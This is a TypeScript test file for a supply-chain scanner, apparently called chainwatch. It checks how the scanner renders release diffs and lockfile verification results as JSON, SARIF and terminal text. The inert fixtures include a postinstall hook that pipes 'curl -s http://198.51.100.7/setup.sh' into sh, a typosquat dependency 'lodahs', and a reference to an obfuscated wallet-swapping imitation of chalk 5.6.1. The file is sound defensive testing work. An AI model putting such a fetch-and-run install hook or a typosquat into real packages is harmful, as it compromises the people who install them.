import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import { allRules } from '../../analysis/index.js';
import { diffRelease, type DiffOptions, type RegistryVersionInfo, type ReleaseDiff } from '../../diff/index.js';
import { manifestText, sideFromFiles } from '../../diff/test-support/side.js';
import { plainStyle, type Style } from '../style.js';
import { sarifErrors } from '../test-support/sarif-schema.js';
import {
  renderDiffJson,
  renderDiffSarif,
  renderDiffText,
  renderVerifyJson,
  renderVerifySarif,
  renderVerifyText,
  verifyStatus,
  type DiffReport,
  type VerifyLockfileReport,
} from './index.js';

// Real ReleaseDiffs from diffRelease over inert releases we write here, rendered in every format.

const NOW = new Date('2025-09-08T15:00:00Z');
const opts: DiffOptions = { rules: allRules, now: NOW };
const tool = { name: 'chainwatch', version: '0.0.0-test' };
const schemas = fileURLToPath(new URL('../../../docs/schemas/', import.meta.url));
const incidents = fileURLToPath(new URL('../../analysis/fixtures/incidents/', import.meta.url));

/** Our inert imitation of chalk 5.6.1: chalk's code (lines 1-19) and the appended obfuscated interceptor (line 20). */
const chalkFixture = readFileSync(`${incidents}qix-chalk-debug-2025-09-08/index.js`, 'utf8');
const chalkClean = chalkFixture.split('\n').slice(0, 19).join('\n') + '\n';

const pkg = (version: string, extra: Record<string, unknown> = {}) => manifestText({ name: 'cw-demo', version, main: 'index.js', license: 'MIT', ...extra });
const utils = (greeting: string) =>
  `'use strict';\n\nfunction greet(name) {\n  return \`${greeting}, \${name}!\`;\n}\n\nfunction shout(text) {\n  return String(text).toUpperCase();\n}\n\nmodule.exports = { greet, shout };\n`;

const alice = { name: 'alice', email: 'alice@example.test' };
const provenance = { sourceRepository: 'https://git.example.test/cw/demo', workflow: '.github/workflows/release.yml' };
const times = { '0.9.0': '2025-03-01T10:00:00Z', '0.9.1': '2025-04-01T10:00:00Z', '0.9.2': '2025-05-01T10:00:00Z', '0.9.3': '2025-06-01T10:00:00Z', '1.0.0': '2025-07-01T10:00:00Z', '1.0.1': '2025-08-01T10:00:00Z' };
const registry = (over: Partial<RegistryVersionInfo>): RegistryVersionInfo => ({ maintainers: [alice], publisher: alice, provenance, versionTimes: times, ...over });

/** A benign patch release by the usual maintainer, with the usual provenance, on the usual monthly cadence. */
async function cleanDiff(): Promise<ReleaseDiff> {
  const from = sideFromFiles('cw-demo', '1.0.0', { 'package.json': pkg('1.0.0'), 'index.js': utils('Hello'), 'README.md': '# demo\n' }, registry({ publishedAt: times['1.0.0'] }));
  const to = sideFromFiles('cw-demo', '1.0.1', { 'package.json': pkg('1.0.1'), 'index.js': utils('Hi'), 'README.md': '# demo\n' }, registry({ publishedAt: times['1.0.1'] }));
  return diffRelease(from, to, opts);
}

/** Loads and runs code it is given: an eval finding both chalk releases have (not new). */
const loader = (padding: number) => `${'// loader\n'.repeat(padding)}module.exports = function load(code) { return eval(code); };\n`;
const chalkSide = (version: string, index: string, padding: number) =>
  sideFromFiles('chalk', version, { 'package.json': manifestText({ name: 'chalk', version, main: 'index.js' }), 'index.js': index, 'lib/loader.js': loader(padding) });

/** The chalk 5.6.1 imitation: one appended obfuscated line that swaps wallet addresses. */
async function chalkDiff(): Promise<ReleaseDiff> {
  return diffRelease(chalkSide('5.6.0', chalkClean, 1), chalkSide('5.6.1', chalkFixture, 3), opts);
}

/** A postinstall that downloads and runs a script (a documentation address, nothing listens there). */
async function postinstallDiff(): Promise<ReleaseDiff> {
  const base = { 'index.js': 'module.exports = 1;\n' };
  const from = sideFromFiles('cw-demo', '1.0.0', { ...base, 'package.json': pkg('1.0.0') });
  const to = sideFromFiles('cw-demo', '1.0.1', { ...base, 'package.json': pkg('1.0.1', { scripts: { postinstall: 'curl -s http://198.51.100.7/setup.sh | sh' } }) });
  return diffRelease(from, to, opts);
}

/**
 * Everything around the code at once: a new publisher without the provenance, a new maintainer, a
 * one-day-old typo-like dependency, a moved repository and entry point, a dist-tag move, a binary,
 * a rename, a removed file and more added files than the text lists.
 */
async function publicationDiff(): Promise<ReleaseDiff> {
  const evil = { name: 'evil', email: 'evil@example.invalid' };
  const png = (n: number) => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, ...new Array<number>(n).fill(7)]);
  const docs = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`docs/page-${String(i).padStart(2, '0')}.md`, `# page ${i}\n`]));
  const from = sideFromFiles(
    'cw-demo',
    '1.0.1',
    {
      'package.json': pkg('1.0.1', { repository: 'https://git.example.test/cw/demo', dependencies: { chalk: '^5.0.0' } }),
      'index.js': utils('Hello'),
      'lib/old.js': 'exports.old = true;\n',
      'lib/keep.js': 'exports.keep = 1;\n',
      'logo.png': png(100),
    },
    registry({ publishedAt: times['1.0.1'], distTags: { latest: '1.0.1' } }),
  );
  const to = sideFromFiles(
    'cw-demo',
    '1.0.2',
    {
      'package.json': pkg('1.0.2', { main: 'lib/main.js', repository: 'https://git.example.invalid/someone/demo', dependencies: { chalk: '^5.1.0', lodahs: '^1.0.0' } }),
      'index.js': utils('Hello'),
      'lib/main.js': utils('Hello'),
      'src/keep.js': 'exports.keep = 1;\n',
      'logo.png': png(3000),
      ...docs,
    },
    registry({ publishedAt: '2025-09-08T13:00:00Z', publisher: evil, maintainers: [alice, evil], provenance: null, distTags: { latest: '1.0.2' } }),
  );
  const facts = new Map([['lodahs', { name: 'lodahs', exists: true, versions: 1, createdAt: '2025-09-07T15:00:00Z' }]]);
  return diffRelease(from, to, { ...opts, popularNames: ['chalk', 'lodash', 'react'], dependencyFacts: facts });
}

const diffs = { clean: await cleanDiff(), chalk: await chalkDiff(), postinstall: await postinstallDiff(), publication: await publicationDiff() };
const reportOf = (diff: ReleaseDiff, extra: Partial<DiffReport> = {}): DiffReport => ({ tool, diff, elapsedMs: 412, ...extra });

/** Every diff of the lockfile sample, and each way a package can end up unchecked. */
function verifyReport(lockfile: string | null = 'package-lock.json'): VerifyLockfileReport {
  return {
    tool,
    lockfile,
    maxAgeDays: 14,
    now: NOW.toISOString(),
    results: [
      { name: 'cw-demo', version: '1.0.1', publishedAt: times['1.0.1'], diff: diffs.clean, predecessor: '1.0.0' },
      { name: 'chalk', version: '5.6.1', publishedAt: '2025-09-08T13:16:00Z', diff: diffs.chalk, predecessor: '5.6.0' },
      { name: 'cw-demo', version: '1.0.2', diff: diffs.publication, predecessor: '1.0.1' },
      { name: 'brand-new', version: '1.0.0', skipped: 'first-release' },
      { name: 'cw-git', version: '2.0.0', skipped: 'not-a-registry-package' },
      { name: 'cw-broken', version: '3.1.0', error: 'integrity mismatch for cw-broken-3.1.0.tgz' },
    ],
    summary: { packages: 240, checked: 3, malicious: 1, suspicious: 1, clean: 1, skipped: 2, errors: 1, elapsedMs: 2345 },
  };
}

const ajv = new Ajv({ allErrors: true, strict: true });
const validateDiff = ajv.compile(JSON.parse(readFileSync(`${schemas}diff.schema.json`, 'utf8')));
const validateVerify = ajv.compile(JSON.parse(readFileSync(`${schemas}verify.schema.json`, 'utf8')));

/** Real terminal colours, as the CLI's style writes them. */
const sgr = (open: number, close: number) => (s: string) => `\u001b[${open}m${s}\u001b[${close}m`;
const ansi: Style = { bold: sgr(1, 22), dim: sgr(2, 22), red: sgr(31, 39), yellow: sgr(33, 39), green: sgr(32, 39), cyan: sgr(36, 39) };
// eslint-disable-next-line no-control-regex -- stripping the escape codes the test style wrote
const stripAnsi = (s: string) => s.replace(/\u001b\[\d+m/g, '');

function deepFreeze<T>(value: T): T {
  if (value && typeof value === 'object') {
    for (const v of Object.values(value)) deepFreeze(v);
    Object.freeze(value);
  }
  return value;
}

describe('the diffs the renderers are tested over', () => {
  it('have the verdicts their releases call for', () => {
    expect(Object.fromEntries(Object.entries(diffs).map(([k, d]) => [k, d.verdict]))).toEqual({ clean: 'clean', chalk: 'malicious', postinstall: 'malicious', publication: 'suspicious' });
    expect(diffs.chalk.findings.length).toBeGreaterThan(0);
    expect(diffs.publication.files.renamed).toEqual([{ from: 'lib/keep.js', to: 'src/keep.js' }]);
  });
});

describe('renderDiffJson', () => {
  it.each(Object.entries(diffs))('renders the %s diff, valid against docs/schemas/diff.schema.json', (_name, diff) => {
    const doc: unknown = JSON.parse(renderDiffJson(reportOf(diff)));
    expect(validateDiff(doc), ajv.errorsText(validateDiff.errors)).toBe(true);
  });

  it('keeps the keys issue 5 makes a contract, first and in order', () => {
    const doc = JSON.parse(renderDiffJson(reportOf(diffs.chalk)));
    expect(Object.keys(doc)).toEqual([
      'schemaVersion', 'tool', 'name', 'from', 'to', 'labels', 'verdict', 'score', 'reasons', 'files', 'findings',
      'metadata', 'code', 'signals', 'patches', 'patchSummary', 'elapsedMs',
    ]);
    expect(doc).toMatchObject({ schemaVersion: 1, tool, name: 'chalk', from: '5.6.0', to: '5.6.1', verdict: 'malicious', elapsedMs: 412 });
    expect(doc.score).toBeGreaterThanOrEqual(80);
    expect(doc.reasons[0]).toMatch(/^new code: swaps crypto addresses \(crypto-address-swap, index\.js:20\)/);
    expect(Object.keys(doc.files)).toEqual(['added', 'removed', 'changed', 'renamed']);
    expect(doc.files.changed).toEqual(['index.js', 'lib/loader.js', 'package.json']);
    expect(Object.keys(doc.findings[0])).toEqual(['rule', 'severity', 'category', 'confidence', 'file', 'line', 'column', 'message', 'snippet']);
    expect(doc.findings.map((f: { rule: string }) => f.rule)).toContain('crypto-address-swap');
    expect(doc.patches.find((p: { path: string }) => p.path === 'index.js').text).toContain('+const _0x112fa8=_0x180f;');
  });

  it('writes null for what is not there rather than leaving keys out', () => {
    const doc = JSON.parse(renderDiffJson(reportOf(diffs.postinstall)));
    // Neither side came from a registry.
    expect(doc.metadata).toMatchObject({ publisher: null, maintainers: null, provenance: null, cadence: null, distTags: null });
    expect(doc.metadata.installScripts).toEqual([{ hook: 'postinstall', change: 'added', from: null, to: 'curl -s http://198.51.100.7/setup.sh | sh', implicit: false }]);
    const pub = JSON.parse(renderDiffJson(reportOf(diffs.publication)));
    expect(pub.metadata.dependencies.added).toEqual([
      { name: 'lodahs', spec: '^1.0.0', kind: 'dependencies', flags: ['young', 'few-versions', 'typo-like'], typoOf: 'lodash', ageDays: 1, facts: { exists: true, createdAt: '2025-09-07T15:00:00Z', versions: 1 } },
    ]);
    expect(pub.metadata.provenance).toEqual({ from: { sourceRepository: provenance.sourceRepository, workflow: provenance.workflow }, to: null, lost: true, changed: false });
    expect(pub.patches.find((p: { path: string }) => p.path === 'logo.png')).toMatchObject({ binary: true, text: null, omitted: 'binary' });
  });

  it('carries the predecessor verify picked', () => {
    const predecessor = { version: '5.6.0', publishedAt: '2025-04-01T10:00:00Z', reason: 'the highest lower version published before 5.6.1' };
    const doc = JSON.parse(renderDiffJson(reportOf(diffs.chalk, { predecessor })));
    expect(validateDiff(doc), ajv.errorsText(validateDiff.errors)).toBe(true);
    expect(doc.predecessor).toEqual(predecessor);
    expect(JSON.parse(renderDiffJson(reportOf(diffs.chalk, { predecessor: { version: '5.6.0', reason: 'r' } }))).predecessor).toEqual({ version: '5.6.0', publishedAt: null, reason: 'r' });
  });

  it('is checked by a schema that does reject a wrong document', () => {
    const doc = () => JSON.parse(renderDiffJson(reportOf(diffs.chalk)));
    const badVerdict = doc();
    badVerdict.verdict = 'harmless';
    expect(validateDiff(badVerdict)).toBe(false);
    const noFindings = doc();
    delete noFindings.findings;
    expect(validateDiff(noFindings)).toBe(false);
    const badSeverity = doc();
    badSeverity.findings[0].severity = 'severe';
    expect(validateDiff(badSeverity)).toBe(false);
    const extra = doc();
    extra.files.moved = [];
    expect(validateDiff(extra)).toBe(false);
    const badSignal = doc();
    badSignal.signals[0].id = 'made-up';
    expect(validateDiff(badSignal)).toBe(false);
  });

  it('renders without touching the diff, the same every time', () => {
    const frozen = deepFreeze(structuredClone(reportOf(diffs.publication)));
    const first = renderDiffJson(frozen);
    expect(renderDiffJson(frozen)).toBe(first);
    expect(renderDiffText(frozen)).toBe(renderDiffText(frozen));
    expect(renderDiffSarif(frozen)).toBe(renderDiffSarif(frozen));
  });
});

describe('renderVerifyJson', () => {
  it('renders every kind of result, valid against docs/schemas/verify.schema.json', () => {
    for (const lockfile of ['package-lock.json', null]) {
      const doc = JSON.parse(renderVerifyJson(verifyReport(lockfile)));
      expect(validateVerify(doc), ajv.errorsText(validateVerify.errors)).toBe(true);
    }
  });

  it('gives each result a status and its diff in the diff document’s shape', () => {
    const doc = JSON.parse(renderVerifyJson(verifyReport()));
    expect(Object.keys(doc)).toEqual(['schemaVersion', 'tool', 'lockfile', 'maxAgeDays', 'now', 'results', 'summary']);
    expect(doc.results.map((r: { name: string; status: string }) => [r.name, r.status])).toEqual([
      ['cw-demo', 'clean'], ['chalk', 'malicious'], ['cw-demo', 'suspicious'], ['brand-new', 'skipped'], ['cw-git', 'skipped'], ['cw-broken', 'error'],
    ]);
    const chalk = doc.results[1];
    expect(chalk).toMatchObject({ name: 'chalk', version: '5.6.1', publishedAt: '2025-09-08T13:16:00Z', predecessor: '5.6.0', skipped: null, error: null });
    const standalone = JSON.parse(renderDiffJson(reportOf(diffs.chalk)));
    for (const key of ['schemaVersion', 'tool', 'elapsedMs']) delete standalone[key];
    expect(chalk.diff).toEqual(standalone);
    expect(doc.results[3]).toMatchObject({ skipped: 'first-release', diff: null, error: null, publishedAt: null });
    expect(doc.results[5]).toMatchObject({ error: 'integrity mismatch for cw-broken-3.1.0.tgz', diff: null });
    expect(doc.summary).toEqual({ packages: 240, checked: 3, malicious: 1, suspicious: 1, clean: 1, skipped: 2, errors: 1, elapsedMs: 2345 });
  });

  it('calls an entry with neither diff, skip nor error an error, and the schema holds status and diff together', () => {
    expect(verifyStatus({ name: 'x', version: '1.0.0' })).toBe('error');
    const doc = JSON.parse(renderVerifyJson(verifyReport()));
    const mismatch = structuredClone(doc);
    mismatch.results[0].status = 'malicious'; // its diff says clean
    expect(validateVerify(mismatch)).toBe(false);
    const noDiff = structuredClone(doc);
    noDiff.results[1].diff = null;
    expect(validateVerify(noDiff)).toBe(false);
    const noError = structuredClone(doc);
    noError.results[5].error = null;
    expect(validateVerify(noError)).toBe(false);
    const badSkip = structuredClone(doc);
    badSkip.results[3].skipped = 'too-old';
    expect(validateVerify(badSkip)).toBe(false);
  });

  it('shares its definitions with diff.schema.json word for word', () => {
    const diffSchema = JSON.parse(readFileSync(`${schemas}diff.schema.json`, 'utf8'));
    const verifySchema = JSON.parse(readFileSync(`${schemas}verify.schema.json`, 'utf8'));
    for (const [name, def] of Object.entries(diffSchema.definitions)) expect(verifySchema.definitions[name], name).toEqual(def);
    // The diff verify carries is the standalone document's body.
    const body = Object.keys(diffSchema.properties).filter((k) => !['schemaVersion', 'tool', 'predecessor', 'elapsedMs'].includes(k));
    expect(Object.keys(verifySchema.definitions.diff.properties)).toEqual(body);
    for (const k of body) expect(verifySchema.definitions.diff.properties[k], k).toEqual(diffSchema.properties[k]);
  });
});

describe('renderDiffSarif', () => {
  it.each(Object.entries(diffs))('renders the %s diff, valid SARIF 2.1.0', (_name, diff) => {
    expect(sarifErrors(JSON.parse(renderDiffSarif(reportOf(diff))))).toBeNull();
  });

  it('puts new findings at to’s file:line:column, relative to the package root', () => {
    const log = JSON.parse(renderDiffSarif(reportOf(diffs.chalk)));
    const run = log.runs[0];
    expect(run.properties).toMatchObject({ name: 'chalk', from: '5.6.0', to: '5.6.1', verdict: 'malicious', score: diffs.chalk.score });
    const swap = run.results.find((r: { ruleId: string }) => r.ruleId === 'crypto-address-swap');
    const finding = diffs.chalk.findings.find((f) => f.rule === 'crypto-address-swap')!;
    expect(swap.locations[0].physicalLocation).toEqual({ artifactLocation: { uri: 'index.js' }, region: { startLine: 20, startColumn: finding.column } });
    expect(swap.level).toBe('error');
    expect(swap.message.text).toMatch(/^chalk 5\.6\.0 → 5\.6\.1 \(malicious\): /);
    const uris = run.results.flatMap((r: { locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }) => r.locations.map((l) => l.physicalLocation.artifactLocation.uri));
    expect(uris.every((u: string) => !u.startsWith('package/') && !u.startsWith('/') && !u.includes(':'))).toBe(true);
    // Every result's ruleIndex points at its rule.
    for (const r of run.results) expect(run.tool.driver.rules[r.ruleIndex].id).toBe(r.ruleId);
    expect(run.results).toHaveLength(diffs.chalk.findings.length + diffs.chalk.signals.length);
  });

  it('gives each signal a release-diff/ result at the level its signal has', () => {
    const log = JSON.parse(renderDiffSarif(reportOf(diffs.publication)));
    const signals = log.runs[0].results.filter((r: { ruleId: string }) => r.ruleId.startsWith('release-diff/'));
    expect(signals.map((r: { ruleId: string }) => r.ruleId)).toEqual(diffs.publication.signals.map((s) => `release-diff/${s.id}`));
    const unknown = signals.find((r: { ruleId: string }) => r.ruleId === 'release-diff/publisher-unknown');
    expect(unknown).toMatchObject({ level: 'warning', locations: [{ physicalLocation: { artifactLocation: { uri: 'package.json' } } }] });
    expect(unknown.message.text).toContain('published by a new publisher (evil <evil@example.invalid>) without the provenance 1.0.1 had');
    const rule = log.runs[0].tool.driver.rules.find((r: { id: string }) => r.id === 'release-diff/publisher-unknown');
    expect(rule).toMatchObject({ defaultConfiguration: { level: 'warning' }, properties: { 'security-severity': '5.5' } });
    const info = signals.find((r: { ruleId: string }) => r.ruleId === 'release-diff/entry-points-changed');
    expect(info.level).toBe('note');
  });
});

describe('renderVerifySarif', () => {
  it('is valid SARIF 2.1.0 with and without a lockfile', () => {
    expect(sarifErrors(JSON.parse(renderVerifySarif(verifyReport())))).toBeNull();
    expect(sarifErrors(JSON.parse(renderVerifySarif(verifyReport(null))))).toBeNull();
  });

  it('places results on the lockfile, unchecked packages in notifications, the counts on the run', () => {
    const run = JSON.parse(renderVerifySarif(verifyReport())).runs[0];
    expect(run.results.length).toBe([diffs.clean, diffs.chalk, diffs.publication].reduce((n, d) => n + d.findings.length + d.signals.length, 0));
    expect(new Set(run.results.map((r: { locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }) => r.locations[0]!.physicalLocation.artifactLocation.uri))).toEqual(new Set(['package-lock.json']));
    const swap = run.results.find((r: { ruleId: string }) => r.ruleId === 'crypto-address-swap');
    expect(swap.properties).toMatchObject({ package: 'chalk', to: '5.6.1', file: 'index.js', line: 20 });
    const notes = run.invocations[0].toolExecutionNotifications;
    expect(notes.map((n: { descriptor: { id: string }; level: string }) => [n.descriptor.id, n.level])).toEqual([
      ['verify-skipped', 'note'], ['verify-skipped', 'note'], ['verify-error', 'error'],
    ]);
    expect(run.invocations[0].executionSuccessful).toBe(false);
    expect(run.properties.summary).toMatchObject({ malicious: 1, errors: 1 });
    expect(run.properties.packages[1]).toEqual({ name: 'chalk', version: '5.6.1', status: 'malicious', predecessor: '5.6.0', score: diffs.chalk.score });
    for (const r of run.results) expect(run.tool.driver.rules[r.ruleIndex].id).toBe(r.ruleId);
  });

  it('places results on the package’s files when there is no lockfile', () => {
    const run = JSON.parse(renderVerifySarif(verifyReport(null))).runs[0];
    const swap = run.results.find((r: { ruleId: string }) => r.ruleId === 'crypto-address-swap');
    expect(swap.locations[0].physicalLocation.artifactLocation.uri).toBe('index.js');
  });
});

/** The lines outside the Patches section (patch lines are the evidence and keep their width). */
function proseLines(text: string): string[] {
  const lines = text.split('\n');
  const start = lines.findIndex((l) => l.startsWith('Patches'));
  const end = lines.findIndex((l, i) => i > start && l.startsWith('--format json'));
  return start === -1 ? lines : [...lines.slice(0, start), ...lines.slice(end)];
}

describe('renderDiffText', () => {
  it('shows the header, reasons, new findings and the patch', () => {
    const d = diffs.chalk;
    const out = renderDiffText(reportOf(d), plainStyle);
    const lines = out.split('\n');
    expect(lines[0]).toBe(`chalk 5.6.0 → 5.6.1  MALICIOUS (score ${d.score})`);
    expect(lines[1]).toMatch(/^ {2}• new code: swaps crypto addresses \(crypto-address-swap, index\.js:20\)/);
    expect(out).toContain(`New findings (${d.findings.length})`);
    const swap = d.findings.find((f) => f.rule === 'crypto-address-swap')!;
    expect(out).toContain(`  ${swap.severity.padEnd(8)}  crypto-address-swap  index.js:20:${swap.column}`);
    expect(out).toContain('Files  0 added · 0 removed · 3 changed');
    expect(out).toMatch(/\n {2}~ index\.js {2}\+1 -0\n/);
    expect(out).toContain('\n--- a/index.js\n+++ b/index.js\n@@ ');
    expect(out).toMatch(/\n\+const _0x112fa8=_0x180f;/);
    // The file with the new findings comes before the others.
    expect(out.indexOf('--- a/index.js')).toBeLessThan(out.indexOf('--- a/lib/loader.js'));
    expect(lines.at(-2)).toBe('--format json shows every file, finding and patch · 412 ms');
    expect(out).not.toContain('\u001b[');
  });

  it('lists only the metadata that changed', () => {
    const clean = renderDiffText(reportOf(diffs.clean));
    expect(clean).not.toContain('publisher');
    expect(clean).not.toContain('provenance');
    expect(clean).toContain('  published      2025-08-01 10:00 UTC, 31 days after 1.0.0, usually every 31 days');
    const pub = renderDiffText(reportOf(diffs.publication));
    // Wrapped under its own start to stay within 100 columns.
    expect(pub).toContain('  publisher      alice <alice@example.test> → evil <evil@example.invalid> (not a maintainer of\n                   1.0.1)\n');
    expect(pub).toContain('  maintainers    +evil');
    expect(pub).toContain('  provenance     lost (1.0.1 had https://git.example.test/cw/demo .github/workflows/release.yml)');
    expect(pub).toContain('  dependencies   + lodahs ^1.0.0 (1 day old, 1 version, one typo from lodash)');
    expect(pub).toContain('                 ~ chalk ^5.0.0 → ^5.1.0');
    expect(pub).toContain('  fields         repository: {"url":"https://git.example.test/cw… →\n                   {"url":"https://git.example.invalid…\n');
    expect(pub).toContain('                 main: "index.js" → "lib/main.js"');
    expect(pub).toContain('  dist-tags      latest 1.0.1 → 1.0.2');
    const post = renderDiffText(reportOf(diffs.postinstall));
    expect(post).toContain('  install        + postinstall: curl -s http://198.51.100.7/setup.sh | sh');
  });

  it('counts and lists files, capped, with renames and binaries', () => {
    const out = renderDiffText(reportOf(diffs.publication));
    expect(out).toContain('Files  13 added · 1 removed · 2 changed · 1 renamed');
    expect(out).toContain('  + docs/page-00.md  +1 -0');
    expect(out).toContain('  … 3 more added');
    expect(out).toContain('  - lib/old.js  +0 -1');
    expect(out).toContain('  ~ logo.png  binary, 112 B → 2.9 KiB');
    expect(out).toContain('  > lib/keep.js → src/keep.js');
    expect(out).toContain('logo.png: binary file changed, 112 B → 2.9 KiB');
  });

  it('names the predecessor verify picked', () => {
    const out = renderDiffText(reportOf(diffs.clean, { predecessor: { version: '1.0.0', publishedAt: times['1.0.0'], reason: 'the highest lower version published before 1.0.1' } }));
    expect(out.split('\n').slice(1, 3)).toEqual(['  predecessor 1.0.0 (published 2025-07-01 10:00 UTC): the highest lower version published before', '    1.0.1']);
  });

  it('keeps everything but patch lines within 100 columns', () => {
    for (const [name, d] of Object.entries(diffs)) {
      for (const line of proseLines(renderDiffText(reportOf(d)))) expect(line.length, `${name}: ${line}`).toBeLessThanOrEqual(100);
    }
  });

  it('colours only through the style it is given: + green, - red, @@ dim', () => {
    const plain = renderDiffText(reportOf(diffs.chalk), plainStyle);
    const coloured = renderDiffText(reportOf(diffs.chalk), ansi);
    expect(coloured).toContain('\u001b[');
    expect(stripAnsi(coloured)).toBe(plain);
    expect(coloured).toContain('\n\u001b[32m+const _0x112fa8');
    const hunk = diffs.chalk.patches.find((p) => p.path === 'index.js')!.text!.split('\n').find((l) => l.startsWith('@@'))!;
    expect(coloured).toContain(`\n\u001b[2m${hunk}\u001b[22m\n`);
    expect(coloured).toContain('\u001b[1m\u001b[31mMALICIOUS\u001b[39m\u001b[22m');
    const removed = renderDiffText(reportOf(diffs.clean), ansi);
    expect(removed).toContain('\u001b[31m-  return `Hello, ${name}!`;\u001b[39m');
    expect(removed).toContain('\u001b[32m+  return `Hi, ${name}!`;\u001b[39m');
  });

  it('renders the clean patch release as in its snapshot', async () => {
    await expect(renderDiffText(reportOf(diffs.clean))).toMatchFileSnapshot('__snapshots__/diff.clean.txt');
  });

  it('renders the publication diff as in its snapshot', async () => {
    await expect(renderDiffText(reportOf(diffs.publication))).toMatchFileSnapshot('__snapshots__/diff.publication.txt');
  });
});

describe('renderVerifyText', () => {
  it('shows flagged releases with reasons, findings and the command for the whole diff, then the rest by name', () => {
    const out = renderVerifyText(verifyReport());
    const lines = out.split('\n');
    expect(lines[0]).toBe('package-lock.json: 6 packages published in the 14 days before 2025-09-08 15:00 UTC');
    // Most dangerous first.
    expect(out.indexOf('chalk 5.6.0 → 5.6.1  MALICIOUS')).toBeLessThan(out.indexOf('cw-demo 1.0.1 → 1.0.2  SUSPICIOUS'));
    expect(out).toMatch(/\n {4}critical {2}crypto-address-swap {2}index\.js:20:\d+ {2}swaps crypto addresses/);
    expect(out).toContain('  the whole diff: chainwatch diff chalk@5.6.0 chalk@5.6.1');
    expect(out).toContain('\nerror  cw-broken@3.1.0  integrity mismatch for cw-broken-3.1.0.tgz\n');
    expect(out).toContain('\nclean: cw-demo 1.0.0 → 1.0.1\n');
    expect(out).toContain('\nskipped (first release, nothing to diff against): brand-new@1.0.0\n');
    expect(out).toContain('\nskipped (not a registry package (git, file or URL)): cw-git@2.0.0\n');
    expect(out).toContain('3 checked · 1 malicious · 1 suspicious · 1 clean · 2 skipped · 1 error · 2.3 s');
    expect(out).not.toContain('\u001b[');
    for (const line of lines) expect(line.length, line).toBeLessThanOrEqual(100);
    const coloured = renderVerifyText(verifyReport(), ansi);
    expect(stripAnsi(coloured)).toBe(out);
    expect(coloured).toContain('\u001b[31merror\u001b[39m  cw-broken@3.1.0');
  });

  it('shows the one release of `verify <name>@<version>` in full', () => {
    const report: VerifyLockfileReport = { ...verifyReport(null), maxAgeDays: null, results: [verifyReport().results[1]!] };
    report.summary = { checked: 1, malicious: 1, suspicious: 0, clean: 0, skipped: 0, errors: 0, elapsedMs: 300 };
    const out = renderVerifyText(report);
    expect(out.startsWith(`chalk 5.6.0 → 5.6.1  MALICIOUS (score ${diffs.chalk.score})\n`)).toBe(true);
    expect(out).toContain('New findings');
    expect(out).toContain('\n+++ b/index.js\n');
    expect(out.trimEnd().split('\n').at(-1)).toBe('1 checked · 1 malicious · 0 suspicious · 0 clean · 0 skipped · 0 errors · 300 ms');
  });
});
